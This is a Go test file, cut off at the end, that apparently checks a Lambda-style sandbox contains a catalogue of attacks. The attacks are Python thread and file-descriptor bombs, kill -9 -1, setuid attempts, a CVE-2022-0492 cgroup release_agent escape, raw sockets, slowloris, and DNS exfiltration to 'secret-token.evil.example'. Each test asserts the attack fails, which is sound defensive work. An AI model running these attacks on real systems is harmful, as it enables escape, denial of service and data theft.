package sandbox_test

// The rest of the attack catalogue (reference/sandbox-profile.md §7, issue
// 13 item 5), each a 128 MB Python function on the real Docker backend. Every
// test checks three things: what the attacking function itself sees (the
// outcome Lambda would give it, §6), that a function of another account
// that is running while the attack happens finishes correctly, and that the
// attacked function's next instance starts clean: a cold start on a new
// instance with an empty /tmp.
//
// The neighbour waits at a gate on the AWS endpoint (a request the test's
// handler holds open) from before the attack begins until it has ended, so
// it is alive through the whole attack whatever the machine's speed; then
// it checks it can still use its processes, threads, files, /tmp and the
// AWS endpoint. The attacks all run at once (TestAttacks): confined to
// their own sandboxes, they must not disturb each other either.

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"lambdalab/sandbox"
	"lambdalab/sandbox/kubernetes/k8sstack"
)

const neighbourAccount = "444455556666"

// gates is the AWS endpoint of an attack test's engine: /ping answers pong,
// /gate/<token> is held until the test opens that gate, and anything else
// reads the whole body first, as an upload would.
type gates struct {
	mu sync.Mutex
	m  map[string]*gate
	n  int
}

type gate struct {
	arrived chan struct{} // closed when the first request reaches the gate
	release chan struct{} // closed by the test to let the request through
	once    sync.Once
	caller  sandbox.Caller // who reached it; read after arrived
}

func (g *gates) open() (string, *gate) {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.n++
	token := "g" + strconv.Itoa(g.n)
	gt := &gate{arrived: make(chan struct{}), release: make(chan struct{})}
	g.m[token] = gt
	return token, gt
}

func (g *gates) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	switch {
	case r.URL.Path == "/ping":
		io.WriteString(w, "pong")
	case strings.HasPrefix(r.URL.Path, "/gate/"):
		g.mu.Lock()
		gt := g.m[strings.TrimPrefix(r.URL.Path, "/gate/")]
		g.mu.Unlock()
		if gt == nil {
			http.Error(w, "no such gate", http.StatusNotFound)
			return
		}
		gt.once.Do(func() {
			gt.caller, _ = sandbox.CallerFrom(r.Context())
			close(gt.arrived)
		})
		select {
		case <-gt.release:
			io.WriteString(w, "open")
		case <-r.Context().Done():
		}
	default:
		n, _ := io.Copy(io.Discard, r.Body)
		fmt.Fprintf(w, "read %d bytes", n)
	}
}

type rig struct {
	e     *sandbox.Engine
	gates *gates
}

// newRig starts an engine whose idle instances are reclaimed after 2 s, so
// the attacked function's next invoke can be made to start a new instance
// the way Lambda would after a while: by waiting.
func newRig(t *testing.T) *rig {
	g := &gates{m: map[string]*gate{}}
	return &rig{e: newEngine(t, sandbox.Config{IdleTimeout: 2 * time.Second, AWS: g}), gates: g}
}

// attackPrelude starts every attacking function: {"check": true} reports
// what a fresh instance holds; anything else leaves a file in /tmp and runs
// the attack, defined after it.
const attackPrelude = `import json, os, errno, subprocess

def handler(event, context):
    if event.get("check"):
        return {"tmp": sorted(os.listdir("/tmp")), "uid": os.getuid()}
    with open("/tmp/left-by-the-attack", "w") as f:
        f.write("x")
    return attack(event, context)

def run(*cmd):
    p = subprocess.run(list(cmd), capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=20)
    return {"code": p.returncode, "out": (p.stdout + p.stderr).strip()}

def errname(e):
    return errno.errorcode.get(e.errno, str(e.errno))

`

// attacker is a 128 MB Python function of the default account running
// attackPrelude followed by src, which defines attack(event, context).
func attacker(t *testing.T, src string) sandbox.Function {
	fn := pyFunction(t, attackPrelude+src)
	fn.MemoryMB, fn.Timeout = 128, 60*time.Second
	return fn
}

// neighbourSrc holds a child process and a file in /tmp, waits at its gate
// while the attack runs, then checks that all of them survived and that it
// can still start threads and processes, open files and reach the AWS
// endpoint through its own relay.
const neighbourSrc = `import http.client, os, subprocess, threading, time

def call(path):
    c = http.client.HTTPConnection("127.0.0.1", 9001, timeout=300)
    try:
        c.request("GET", path)
        return c.getresponse().read().decode()
    finally:
        c.close()

def handler(event, context):
    with open("/tmp/neighbour", "w") as f:
        f.write(context.aws_request_id)
    child = subprocess.Popen(["sleep", "600"])
    out = {"gate": call("/gate/" + event["gate"]), "child_alive": child.poll() is None}
    child.kill()
    child.wait()
    with open("/tmp/neighbour") as f:
        out["tmp_kept"] = f.read() == context.aws_request_id
    threads = [threading.Thread(target=time.sleep, args=(0.01,)) for _ in range(32)]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    out["threads"] = len(threads)
    files = [open("/dev/null") for _ in range(256)]
    out["files"] = len(files)
    for f in files:
        f.close()
    out["echo"] = subprocess.run(["echo", "still here"], capture_output=True, text=True).stdout.strip()
    out["ping"] = call("/ping")
    with open("/proc/self/oom_score_adj") as f:
        out["oom_score_adj"] = int(f.read())
    return out
`

const neighbourWant = `{"child_alive":true,"echo":"still here","files":256,"gate":"open","oom_score_adj":0,"ping":"pong","threads":32,"tmp_kept":true}`

// kubeletOOMScore reports whether adj is an oom_score_adj the kubelet
// gives a Burstable Pod's container: 1000 less its memory request's share
// of the node's memory in thousandths, kept within 3 to 999. The Docker
// backend leaves it at 0.
func kubeletOOMScore(adj float64) bool { return adj >= 3 && adj <= 999 }

// withBaseOOMScore is the neighbour's answer with its oom_score_adj as it
// would be on Docker (0) when it is what the backend sets: the kubelet's
// on Kubernetes.
func withBaseOOMScore(t *testing.T, payload []byte) []byte {
	t.Helper()
	if !onKubernetes() {
		return payload
	}
	var v map[string]any
	if json.Unmarshal(payload, &v) != nil {
		return payload
	}
	if adj, ok := v["oom_score_adj"].(float64); !ok || !kubeletOOMScore(adj) {
		t.Errorf("the neighbour's oom_score_adj on Kubernetes is %v, want the kubelet's Burstable score (3 to 999)", v["oom_score_adj"])
		return payload
	}
	v["oom_score_adj"] = 0
	out, _ := json.Marshal(v)
	return out
}

// attack runs fn once with payload while a neighbour of another account is
// alive through the whole invoke, checks the neighbour, and returns the
// attacking invoke's result.
func (r *rig) attack(t *testing.T, fn sandbox.Function, payload string) *sandbox.Result {
	t.Helper()
	nb := pyFunction(t, neighbourSrc)
	nb.AccountID, nb.MemoryMB, nb.Timeout = neighbourAccount, 128, 300*time.Second
	token, gt := r.gates.open()
	type outcome struct {
		res *sandbox.Result
		err error
	}
	done := make(chan outcome, 1)
	go func() {
		res, err := r.e.Invoke(context.Background(), sandbox.InvokeInput{Function: nb, Payload: []byte(`{"gate":"` + token + `"}`)})
		done <- outcome{res, err}
	}()
	select {
	case <-gt.arrived:
	case o := <-done:
		t.Fatalf("the neighbour ended before it reached its gate: %v %+v", o.err, o.res)
	case <-time.After(2 * time.Minute):
		t.Fatal("the neighbour did not reach its gate within 2 minutes")
	}
	if gt.caller.AccountID != neighbourAccount {
		t.Fatalf("the gate was reached by %+v, not the neighbour", gt.caller)
	}
	res := invoke(t, r.e, fn, payload)
	close(gt.release)
	o := <-done
	if o.err != nil {
		t.Fatalf("the neighbour's invoke during the attack: %v", o.err)
	}
	if got := compactJSON(withBaseOOMScore(t, o.res.Payload)); o.res.FunctionError != "" || got != neighbourWant {
		t.Errorf("the neighbour's invoke during the attack returned %s (%s), want %s\n%s", o.res.Payload, o.res.FunctionError, neighbourWant, o.res.Log)
	}
	return res
}

// nextIsClean waits until the attacked instance is gone (it died in the
// attack, or it idled out) and checks the function's next invoke: a cold
// start on a new instance that finds /tmp empty.
func (r *rig) nextIsClean(t *testing.T, fn sandbox.Function, attacked *sandbox.Result) {
	t.Helper()
	deadline := time.Now().Add(time.Minute)
	for len(r.e.Instances(fn.AccountID)) > 0 {
		if time.Now().After(deadline) {
			t.Fatalf("the attacked instance was not reclaimed within a minute: %+v", r.e.Instances(fn.AccountID))
		}
		time.Sleep(50 * time.Millisecond)
	}
	res := invoke(t, r.e, fn, `{"check":true}`)
	v := decode(t, res)
	if res.FunctionError != "" || !res.Cold || res.InstanceID == attacked.InstanceID {
		t.Errorf("next invoke after the attack: %s (%s), cold %v on %s (the attack ran on %s); want a clean cold start on a new instance\n%s",
			res.Payload, res.FunctionError, res.Cold, res.InstanceID, attacked.InstanceID, res.Log)
	}
	if fmt.Sprint(v["tmp"]) != "[]" {
		t.Errorf("a new instance after the attack finds %v in /tmp, want it empty", v["tmp"])
	}
}

func compactJSON(b []byte) string {
	var v any
	if json.Unmarshal(b, &v) != nil {
		return string(b)
	}
	out, _ := json.Marshal(v)
	return string(out)
}

// field reads a nested value of a decoded payload by path, for messages.
func field(v map[string]any, path ...string) any {
	var cur any = v
	for _, p := range path {
		m, ok := cur.(map[string]any)
		if !ok {
			return nil
		}
		cur = m[p]
	}
	return cur
}

// TestAttacks runs every attack at once, each a subtest (-run
// TestAttacks/Slowloris picks one). They are started from goroutines rather
// than with t.Parallel, which would run only GOMAXPROCS of them at a time:
// on a 2-core machine that doubles the wall time of tests that mostly wait
// for throttled 128 MB sandboxes. Running them together is also part of
// the test: each attack is another attack's neighbour.
func TestAttacks(t *testing.T) {
	t.Parallel()
	requireDocker(t)
	attacks := []struct {
		name string
		run  func(t *testing.T)
	}{
		{"ThreadBomb", attackThreadBomb},
		{"FileDescriptors", attackFileDescriptors},
		{"KillAll", attackKillAll},
		{"Setuid", attackSetuid},
		{"NamespacesAndReleaseAgent", attackNamespacesAndReleaseAgent},
		{"MountMknodRawSocket", attackMountMknodRawSocket},
		{"OOMScoreAdj", attackOOMScoreAdj},
		{"Slowloris", attackSlowloris},
		{"DNSExfiltration", attackDNSExfiltration},
		{"Recon", attackRecon},
	}
	// On the Kubernetes backend the node books CPU: each instance starts
	// unbound, requesting 289m, and every attack runs two or three at a
	// time, so all ten together would ask the test node for about three
	// times its 2 cores and be refused for room. Two at a time fit.
	at := make(chan struct{}, len(attacks))
	if onKubernetes() {
		at = make(chan struct{}, 2)
	}
	var wg sync.WaitGroup
	for _, a := range attacks {
		wg.Add(1)
		go func() {
			defer wg.Done()
			at <- struct{}{}
			defer func() { <-at }()
			t.Run(a.name, a.run)
		}()
	}
	wg.Wait()
}

func attackThreadBomb(t *testing.T) {
	r := newRig(t)
	// The threads are kept in a module global, so they still hold the
	// instance's tasks while the neighbour checks it can start its own.
	fn := attacker(t, `import threading, time
held = []
def attack(event, context):
    while True:
        th = threading.Thread(target=time.sleep, args=(3600,), daemon=True)
        th.start()
        held.append(th)
`)
	fn.Timeout = 20 * time.Second
	res := r.attack(t, fn, `{}`)
	v := decode(t, res)
	t.Logf("thread bomb: %s", res.Payload)
	if underGVisor() {
		// gVisor's threads are the Sentry's, not host tasks, so the pids
		// limit does not stop them: the bomb runs into the timeout or the
		// memory limit instead, contained either way.
		if res.FunctionError != "Unhandled" || (v["errorType"] != "Sandbox.Timedout" && v["errorType"] != "Runtime.ExitError" && v["errorType"] != "RuntimeError") {
			t.Errorf("thread bomb under gVisor = %s (%s), want a timeout, the runtime's exit or can't start new thread\n%s", res.Payload, res.FunctionError, res.Log)
		}
	} else if res.FunctionError != "Unhandled" || v["errorType"] != "RuntimeError" || v["errorMessage"] != "can't start new thread" {
		t.Errorf("thread bomb = %s (%s), want the handler's RuntimeError: can't start new thread\n%s", res.Payload, res.FunctionError, res.Log)
	}
	r.nextIsClean(t, fn, res)
}

func attackFileDescriptors(t *testing.T) {
	r := newRig(t)
	fn := attacker(t, `import resource
held = []
def attack(event, context):
    try:
        while True:
            held.append(open("/dev/null", "rb"))
    except OSError as e:
        return {"opened": len(held), "errno": errname(e), "error": str(e),
                "nofile": list(resource.getrlimit(resource.RLIMIT_NOFILE))}
`)
	res := r.attack(t, fn, `{}`)
	v := decode(t, res)
	t.Logf("fd exhaustion: %s", res.Payload)
	// The runtime already has its few descriptors open (its connection to
	// the Runtime API among them), and answers with every other one in use.
	if n, _ := v["opened"].(float64); res.FunctionError != "" || v["errno"] != "EMFILE" ||
		!strings.HasPrefix(fmt.Sprint(v["error"]), "[Errno 24] Too many open files") ||
		fmt.Sprint(v["nofile"]) != "[1024 1024]" || n < 1000 || n > 1021 {
		t.Errorf("fd exhaustion = %s (%s), want EMFILE after about 1,024 descriptors (nofile 1024)\n%s", res.Payload, res.FunctionError, res.Log)
	}
	r.nextIsClean(t, fn, res)
}

func attackKillAll(t *testing.T) {
	r := newRig(t)
	// Every sandbox runs as the same host user, so outside a PID namespace
	// this would kill every learner's processes. Inside, it reaches the
	// instance's own runtime only: init is PID 1, which a signal from inside
	// its namespace cannot kill.
	fn := attacker(t, `def attack(event, context):
    subprocess.run(["sh", "-c", "kill -9 -1"])
    return "the runtime survived"
`)
	res := r.attack(t, fn, `{}`)
	v := decode(t, res)
	if res.FunctionError != "Unhandled" || v["errorType"] != "Runtime.ExitError" ||
		v["errorMessage"] != "RequestId: "+res.RequestID+" Error: Runtime exited with error: signal: killed" {
		t.Errorf("kill -9 -1 = %s (%s), want the runtime's exit, signal: killed\n%s", res.Payload, res.FunctionError, res.Log)
	}
	if log := string(res.Log); !strings.Contains(log, "Error Type: Runtime.ExitError") || strings.Contains(log, "OutOfMemory") {
		t.Errorf("kill -9 -1 REPORT, want Runtime.ExitError and no OOM:\n%s", log)
	}
	r.nextIsClean(t, fn, res)
}

func attackSetuid(t *testing.T) {
	r := newRig(t)
	// su and passwd are setuid root in the image, as on Lambda's; with
	// no-new-privileges they run as the sandbox user and cannot read the
	// shadow file.
	fn := attacker(t, `def attack(event, context):
    out = {"su": run("su", "-c", "touch /tmp/root-was-here", "root"),
           "passwd": run("passwd", "-d", "root")}
    for name, call in [("setuid", lambda: os.setuid(0)), ("setgid", lambda: os.setgid(0)),
                       ("setresuid", lambda: os.setresuid(0, 0, 0))]:
        try:
            call()
            out[name] = "became root"
        except OSError as e:
            out[name] = errname(e)
    with open("/proc/self/status") as f:
        status = dict(line.split(":\t", 1) for line in f.read().splitlines() if ":\t" in line)
    out["NoNewPrivs"] = status.get("NoNewPrivs", "absent").strip()
    out["CapEff"] = status.get("CapEff", "absent").strip()
    out["euid"] = os.geteuid()
    out["root_file"] = os.path.exists("/tmp/root-was-here")
    return out
`)
	res := r.attack(t, fn, `{}`)
	v := decode(t, res)
	t.Logf("setuid attempts: %s", res.Payload)
	if res.FunctionError != "" {
		t.Fatalf("setuid attempts: %s (%s)\n%s", res.Payload, res.FunctionError, res.Log)
	}
	if code, out := field(v, "su", "code"), fmt.Sprint(field(v, "su", "out")); code == 0.0 || !strings.Contains(out, "Authentication failure") {
		t.Errorf("su root: exit %v, %q; want su: Authentication failure", code, out)
	}
	if code, out := field(v, "passwd", "code"), fmt.Sprint(field(v, "passwd", "out")); code == 0.0 || !strings.Contains(out, "Permission denied") {
		t.Errorf("passwd -d root: exit %v, %q; want Permission denied", code, out)
	}
	for _, k := range []string{"setuid", "setgid", "setresuid"} {
		if v[k] != "EPERM" {
			t.Errorf("%s(0): %v, want EPERM", k, v[k])
		}
	}
	nnp := v["NoNewPrivs"] == "1" || underGVisor() && v["NoNewPrivs"] == "absent" // gVisor's status file has no such line
	if v["euid"] == 0.0 || v["root_file"] != false || !nnp || v["CapEff"] != "0000000000000000" {
		t.Errorf("after the attempts: euid %v, root's file %v, NoNewPrivs %v, CapEff %v; want no privilege at all", v["euid"], v["root_file"], v["NoNewPrivs"], v["CapEff"])
	}
	r.nextIsClean(t, fn, res)
}

func attackNamespacesAndReleaseAgent(t *testing.T) {
	r := newRig(t)
	// CVE-2022-0492: with a new user namespace a process could mount a
	// cgroup v1 hierarchy and set its release_agent, which the host kernel
	// runs as root. Both steps are refused: unshare by the default seccomp
	// profile and the missing capabilities, the host's cgroup files by the
	// read-only cgroup mounts.
	fn := attacker(t, `import ctypes, glob
def attack(event, context):
    out = {"unshare": run("unshare", "-Ur", "id", "-u"),
           "unshare_cgroup": run("unshare", "-UrmC", "sh", "-c",
               "mkdir -p /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg && echo /tmp/x > /tmp/cg/release_agent")}
    libc = ctypes.CDLL(None, use_errno=True)
    out["unshare_syscall"] = "EPERM" if libc.unshare(0x10000000) != 0 and ctypes.get_errno() == errno.EPERM else "allowed"
    os.makedirs("/tmp/cg", exist_ok=True)
    rc = libc.mount(b"cgroup", b"/tmp/cg", b"cgroup", 0, b"memory")
    out["mount_cgroup"] = errno.errorcode.get(ctypes.get_errno(), "?") if rc != 0 else "mounted"
    writes = {}
    for p in ["/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent",
              "/sys/fs/cgroup/memory/notify_on_release"] + glob.glob("/sys/fs/cgroup/*/release_agent"):
        try:
            fd = os.open(p, os.O_WRONLY)
            try:
                os.write(fd, b"/tmp/x")
                writes[p] = "written"
            finally:
                os.close(fd)
        except OSError as e:
            writes[p] = errname(e)
    out["writes"] = writes
    return out
`)
	res := r.attack(t, fn, `{}`)
	v := decode(t, res)
	t.Logf("unshare and release_agent: %s", res.Payload)
	if res.FunctionError != "" {
		t.Fatalf("unshare attempts: %s (%s)\n%s", res.Payload, res.FunctionError, res.Log)
	}
	if underGVisor() {
		// gVisor implements user namespaces inside its Sentry, so unshare
		// -Ur works there, but that namespace mounts no cgroup file system
		// and the host kernel never sees it.
		if field(v, "unshare_cgroup", "code") == 0.0 || v["mount_cgroup"] != "EPERM" {
			t.Errorf("under gVisor: unshare and mount a cgroup %v, mount(cgroup) %v; want both refused", v["unshare_cgroup"], v["mount_cgroup"])
		}
	} else {
		for _, k := range []string{"unshare", "unshare_cgroup"} {
			if out := fmt.Sprint(field(v, k, "out")); field(v, k, "code") == 0.0 || !strings.Contains(out, "unshare failed: Operation not permitted") {
				t.Errorf("%s: %v; want unshare failed: Operation not permitted", k, v[k])
			}
		}
		if v["unshare_syscall"] != "EPERM" || v["mount_cgroup"] != "EPERM" {
			t.Errorf("unshare(CLONE_NEWUSER) %v, mount cgroup %v; want EPERM for both", v["unshare_syscall"], v["mount_cgroup"])
		}
	}
	writes, _ := v["writes"].(map[string]any)
	for p, got := range writes {
		if got == "written" {
			t.Errorf("the sandbox wrote %s", p)
		}
	}
	if len(writes) < 3 {
		t.Errorf("tried %d cgroup files, want at least 3: %v", len(writes), writes)
	}
	r.nextIsClean(t, fn, res)
}

func attackMountMknodRawSocket(t *testing.T) {
	r := newRig(t)
	fn := attacker(t, `import ctypes, socket, stat
def attack(event, context):
    out = {"mount_cmd": run("mount", "-t", "tmpfs", "none", "/tmp"),
           "mknod_cmd": run("mknod", "/tmp/mem", "c", "1", "1")}
    libc = ctypes.CDLL(None, use_errno=True)
    rc = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
    out["mount"] = errno.errorcode.get(ctypes.get_errno(), "?") if rc != 0 else "mounted"
    def attempt(name, call):
        try:
            call()
            out[name] = "allowed"
        except OSError as e:
            out[name] = errname(e)
    attempt("mknod", lambda: os.mknod("/tmp/null", 0o600 | stat.S_IFCHR, os.makedev(1, 3)))
    attempt("raw_icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close())
    attempt("raw_tcp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP).close())
    attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close())
    attempt("chown", lambda: os.chown("/tmp/left-by-the-attack", 0, 0))
    return out
`)
	res := r.attack(t, fn, `{}`)
	v := decode(t, res)
	t.Logf("mount, mknod, raw sockets: %s", res.Payload)
	if res.FunctionError != "" {
		t.Fatalf("mount, mknod, raw sockets: %s (%s)\n%s", res.Payload, res.FunctionError, res.Log)
	}
	if out := fmt.Sprint(field(v, "mount_cmd", "out")); field(v, "mount_cmd", "code") == 0.0 || !strings.Contains(out, "must be superuser") {
		t.Errorf("mount -t tmpfs: %v; want mount: must be superuser", v["mount_cmd"])
	}
	if out := fmt.Sprint(field(v, "mknod_cmd", "out")); field(v, "mknod_cmd", "code") == 0.0 || !strings.Contains(out, "Operation not permitted") {
		t.Errorf("mknod: %v; want Operation not permitted", v["mknod_cmd"])
	}
	for _, k := range []string{"mount", "mknod", "raw_icmp", "raw_tcp", "packet", "chown"} {
		if v[k] != "EPERM" {
			t.Errorf("%s: %v, want EPERM", k, v[k])
		}
	}
	r.nextIsClean(t, fn, res)
}

func attackOOMScoreAdj(t *testing.T) {
	r := newRig(t)
	// At -1000 the runtime could never be chosen by the OOM killer: a full
	// memory cgroup would then hang instead of killing it. Only raising the
	// score is allowed, and the kill that follows stays in the sandbox.
	fn := attacker(t, `def write(value):
    fd = os.open("/proc/self/oom_score_adj", os.O_WRONLY)
    try:
        os.write(fd, value.encode())
        return "written"
    except OSError as e:
        return errname(e)
    finally:
        os.close(fd)
def read():
    with open("/proc/self/oom_score_adj") as f:
        return int(f.read())
def attack(event, context):
    out = {"-1000": write("-1000"), "after_-1000": read(), "-1": write("-1")}
    out["1000"] = write("1000")
    out["after_1000"] = read()
    print("oom_score_adj " + json.dumps(out, sort_keys=True), flush=True)
    hog = []
    while True:
        hog.append(bytearray(8 << 20))
`)
	res := r.attack(t, fn, `{}`)
	v := decode(t, res)
	log := string(res.Log)
	want := `oom_score_adj {"-1": "EACCES", "-1000": "EACCES", "1000": "written", "after_-1000": 0, "after_1000": 1000}`
	if onKubernetes() {
		// The score the kubelet gave the Pod stays after the refused
		// writes: lowering it needs CAP_SYS_RESOURCE there too.
		if m := regexp.MustCompile(`"after_-1000": (\d+)`).FindStringSubmatch(log); m != nil {
			if adj, _ := strconv.Atoi(m[1]); kubeletOOMScore(float64(adj)) {
				want = strings.Replace(want, `"after_-1000": 0`, `"after_-1000": `+m[1], 1)
			}
		}
	}
	if underGVisor() {
		// The Sentry keeps a guest's score to itself; the host's OOM
		// killer only sees the sandbox, whose memory cgroup kills it below.
		want = `oom_score_adj {"-1": "written", "-1000": "written", "1000": "written", "after_-1000": -1000, "after_1000": 1000}`
	}
	if !strings.Contains(log, want) {
		t.Errorf("writing oom_score_adj: log lacks %s\n%s", want, log)
	}
	if res.FunctionError != "Unhandled" || v["errorType"] != "Runtime.ExitError" ||
		v["errorMessage"] != "RequestId: "+res.RequestID+" Error: Runtime exited with error: signal: killed" ||
		!strings.Contains(log, "Error Type: Runtime.OutOfMemory") {
		t.Errorf("memory hog at oom_score_adj 1000 = %s (%s), want its own OOM kill\n%s", res.Payload, res.FunctionError, log)
	}
	r.nextIsClean(t, fn, res)
}

// attackSlowloris holds hundreds of half-open requests on the instance's
// loopback relay and more than the host's 64-connection cap directly on
// the instance's socket. Both sides hold: the relay serves at most 128
// connections (more are closed at once, so the attacker's own new requests
// fail) and drops a header that has not arrived 5 s after its first byte;
// the host's cap and 5 s header timeout do the same on the socket. The
// attacker's endpoint answers again once the timeouts free its
// connections, and a neighbour's AWS calls go through meanwhile.
func attackSlowloris(t *testing.T) {
	r := newRig(t)
	fn := attacker(t, `import http.client, socket, time
held = []
def half_open(family, addr):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.connect(addr)
    s.sendall(b"GET /ping HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
    return s
def probe(timeout):
    c = http.client.HTTPConnection("127.0.0.1", 9001, timeout=timeout)
    try:
        c.request("GET", "/ping")
        return c.getresponse().read().decode()
    except OSError as e:
        return type(e).__name__
    finally:
        c.close()
def attack(event, context):
    out = {}
    # A keep-alive connection opened first: the relay reuses its host
    # connection, so this path to the gate stays open during the stall.
    keep = http.client.HTTPConnection("127.0.0.1", 9001, timeout=120)
    keep.request("GET", "/ping")
    out["before"] = keep.getresponse().read().decode()
    relay = []
    try:
        for _ in range(event["relay"]):
            relay.append(half_open(socket.AF_INET, ("127.0.0.1", 9001)))
    except OSError as e:
        out["relay_error"] = errname(e)
    direct = [half_open(socket.AF_UNIX, "/var/run/lambdalab/aws.sock") for _ in range(event["direct"])]
    held.extend(relay + direct)
    out["relay_open"], out["direct_open"] = len(relay), len(direct)
    out["probe_during"] = probe(1)
    keep.request("GET", "/gate/" + event["gate"])
    out["gate"] = keep.getresponse().read().decode()
    closed, deadline = 0, time.time() + 40
    for s in direct:
        s.settimeout(max(0.1, deadline - time.time()))
        try:
            s.recv(4096)
            closed += 1
        except socket.timeout:
            pass
    out["direct_closed"] = closed
    rclosed = 0
    for s in relay:
        s.settimeout(max(0.1, deadline - time.time()))
        try:
            s.recv(4096)
            rclosed += 1
        except socket.timeout:
            pass
        except OSError:
            rclosed += 1
    out["relay_closed"] = rclosed
    out["probe_after"] = probe(10)
    return out
`)
	token, gt := r.gates.open()
	// While the attacker's endpoint is stalled, a function of another
	// account calls its own endpoint.
	pinger := pyFunction(t, `import http.client
def handler(event, context):
    c = http.client.HTTPConnection("127.0.0.1", 9001, timeout=30)
    c.request("GET", "/ping")
    return c.getresponse().read().decode()
`)
	pinger.AccountID, pinger.MemoryMB = neighbourAccount, 128
	invoke(t, r.e, pinger, `{}`) // warm, so the call during the stall is quick
	type outcome struct {
		res *sandbox.Result
		err error
	}
	pinged := make(chan outcome, 1)
	go func() {
		defer close(gt.release)
		select {
		case <-gt.arrived:
		case <-time.After(2 * time.Minute):
			return
		}
		res, err := r.e.Invoke(context.Background(), sandbox.InvokeInput{Function: pinger})
		pinged <- outcome{res, err}
	}()
	res := r.attack(t, fn, `{"relay":900,"direct":96,"gate":"`+token+`"}`)
	v := decode(t, res)
	t.Logf("slowloris: %s", res.Payload)
	if res.FunctionError != "" {
		t.Fatalf("slowloris = %s (%s)\n%s", res.Payload, res.FunctionError, res.Log)
	}
	select {
	case p := <-pinged:
		if p.err != nil {
			t.Errorf("the neighbour's invoke during the stall: %v", p.err)
		} else if string(p.res.Payload) != `"pong"` {
			t.Errorf("the neighbour's AWS call during the stall: %s (%s)\n%s", p.res.Payload, p.res.FunctionError, p.res.Log)
		}
	default:
		t.Error("the neighbour's invoke during the stall did not complete")
	}
	if gt.caller.AccountID != fn.AccountID {
		t.Errorf("the attacker's gate was reached by %+v", gt.caller)
	}
	if v["before"] != "pong" || v["relay_open"] != 900.0 || v["direct_open"] != 96.0 || v["gate"] != "open" {
		t.Errorf("slowloris set-up: %s", res.Payload)
	}
	// Refused or stalled: the relay's 128 connections and the host's 64
	// are the attacker's own until their headers time out.
	switch v["probe_during"] {
	case "ConnectionResetError", "RemoteDisconnected", "BrokenPipeError", "TimeoutError":
	default:
		t.Errorf("a request through the relay with 900 half-open requests on it: %v, want it refused or stalled", v["probe_during"])
	}
	if v["relay_closed"] != 900.0 {
		t.Errorf("%v of 900 half-open requests on the relay were closed (past its cap or by its header timeout), want all", v["relay_closed"])
	}
	if v["direct_closed"] != 96.0 || v["probe_after"] != "pong" {
		t.Errorf("after the header timeout: %v of 96 half-open requests closed by the host, then %v; want all closed and pong", v["direct_closed"], v["probe_after"])
	}
	r.nextIsClean(t, fn, res)
}

func attackDNSExfiltration(t *testing.T) {
	r := newRig(t)
	// A listener on this machine stands in for the attacker's name server:
	// port 53 when the test may bind it, another port otherwise.
	pc, err := net.ListenPacket("udp4", "0.0.0.0:53")
	if err != nil {
		pc, err = net.ListenPacket("udp4", "0.0.0.0:0")
	}
	if err != nil {
		t.Fatal(err)
	}
	defer pc.Close()
	port := pc.LocalAddr().(*net.UDPAddr).Port
	fn := attacker(t, `import socket
def attack(event, context):
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"\x0csecret-token\x04evil\x07example\x00\x00\x01\x00\x01"
    out = {}
    with open("/etc/resolv.conf") as f:
        servers = [l.split()[1] for l in f if l.startswith("nameserver")]
    for host, port in [(h, event["port"]) for h in event["hosts"]] + [(h, 53) for h in servers + ["8.8.8.8", "169.254.169.253"]]:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.sendto(query, (host, port))
            out[f"{host}:{port}"] = "sent"
        except OSError as e:
            out[f"{host}:{port}"] = errname(e)
        finally:
            s.close()
    try:
        socket.getaddrinfo("secret-token.evil.example", 443)
        out["getaddrinfo"] = "resolved"
    except socket.gaierror as e:
        out["getaddrinfo"] = f"{e.errno} {e.strerror}"
    return out
`)
	hosts := []string{hostAddr(t), "172.17.0.1"}
	payload, _ := json.Marshal(map[string]any{"port": port, "hosts": hosts})
	res := r.attack(t, fn, string(payload))
	v := decode(t, res)
	t.Logf("DNS exfiltration: %s", res.Payload)
	if res.FunctionError != "" || len(v) < 5 {
		t.Fatalf("DNS exfiltration = %s (%s)\n%s", res.Payload, res.FunctionError, res.Log)
	}
	for k, got := range v {
		if k == "getaddrinfo" {
			continue
		}
		if underGVisor() && got == "EHOSTUNREACH" {
			continue // gVisor's netstack words "no route" this way
		}
		if onKubernetes() && k == "127.0.0.1:53" && got == "sent" {
			// The Pod's resolv.conf names its own loopback (PodFor: the
			// API wants a nameserver), where nothing listens: the query
			// never leaves the Pod, under any CNI plugin.
			continue
		}
		if got != "ENETUNREACH" {
			t.Errorf("UDP to %s from a sandbox: %v, want ENETUNREACH", k, got)
		}
	}
	if v["getaddrinfo"] != "-3 Temporary failure in name resolution" {
		t.Errorf("getaddrinfo from a sandbox: %v, want -3 Temporary failure in name resolution", v["getaddrinfo"])
	}
	pc.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
	buf := make([]byte, 512)
	if n, from, err := pc.ReadFrom(buf); err == nil {
		t.Errorf("the host's port %d received %q from %v", port, buf[:n], from)
	}
	r.nextIsClean(t, fn, res)
}

// attackRecon records what a sandbox learns about the host from /proc
// and /sys. Under runc this is accepted (sandbox/doc.go, Security): the
// host's memory, CPUs, kernel, block devices and Docker's overlay paths
// show; other processes, the host's cgroup paths and the kernel's memory do
// not.
func attackRecon(t *testing.T) {
	r := newRig(t)
	fn := attacker(t, `def readfile(p):
    try:
        with open(p, "rb") as f:
            return f.read().decode(errors="replace")
    except OSError as e:
        return errname(e)
def listdir(p):
    try:
        return sorted(os.listdir(p))
    except OSError as e:
        return errname(e)
def attack(event, context):
    mem = {l.split(":")[0]: l.split()[1] for l in readfile("/proc/meminfo").splitlines() if ":" in l}
    return {
